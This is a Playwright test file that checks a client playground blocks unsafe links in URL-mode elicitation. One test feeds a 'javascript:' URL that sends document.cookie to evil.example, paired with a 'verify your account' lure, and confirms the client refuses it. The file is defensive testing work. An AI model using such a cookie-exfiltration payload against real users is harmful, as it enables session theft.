// URL mode, links the kit must not open: a dangerous scheme is refused outright with -32602 (no dialog, no Open
// button), and plain http on a non-loopback host is shown but cannot be opened. Nothing is ever fetched.
import type { Request } from '@playwright/test';
import { expect, test } from '../support/test.js';

test.describe('URL mode: blocked links (playground)', () => {
  test('a javascript: URL is refused with -32602 and never offered', async ({ page, context, playground }) => {
    const touched: string[] = [];
    context.on('request', (request: Request) => {
      if (request.url().includes('evil.example')) {
        touched.push(request.url());
      }
    });
    await playground.open();
    await playground.paste({
      mode: 'url',
      message: 'Click to verify your account.',
      elicitationId: 'x-107',
      url: "javascript:fetch('https://evil.example/?c='+document.cookie)",
    });
    const error = page.getByLabel('Error response');
    await expect(error).toContainText('-32602');
    await expect(error).toContainText('"reason": "url-blocked"');
    await expect(page.getByRole('button', { name: 'Show dialog' })).toHaveCount(0);
    await expect(page.getByRole('dialog')).toHaveCount(0);
    await expect(page.getByRole('button', { name: /^Open\b/ })).toHaveCount(0);
    expect(touched).toEqual([]);
  });

  test('plain http on a non-loopback host is shown in full but cannot be opened', async ({
    page,
    context,
    playground,
  }) => {
    const touched: string[] = [];
    await context.route('http://downloads.example.net/**', (route) => {
      touched.push(route.request().url());
      return route.abort();
    });
    await playground.open();
    await playground.paste({
      mode: 'url',
      message: 'Download the report from our mirror.',
      elicitationId: 'mirror-1',
      url: 'http://downloads.example.net/report?id=42',
    });
    await page.getByRole('button', { name: 'Show dialog' }).click();
    const dialog = await playground.dialog.expectOpen();
    await expect(dialog).toContainText('http://downloads.example.net/report?id=42');
    await expect(dialog).toContainText('This link cannot be opened safely.');
    await expect(playground.dialog.openButton).toHaveCount(0);
    await expect(dialog.getByRole('link')).toHaveCount(0);
    // Declining is still possible, and it is what the client answers.
    await playground.dialog.decline();
    await playground.dialog.expectClosed();
    await expect(page.getByLabel('ElicitResult')).toContainText('"action": "decline"');
    expect(touched).toEqual([]);
  });
});
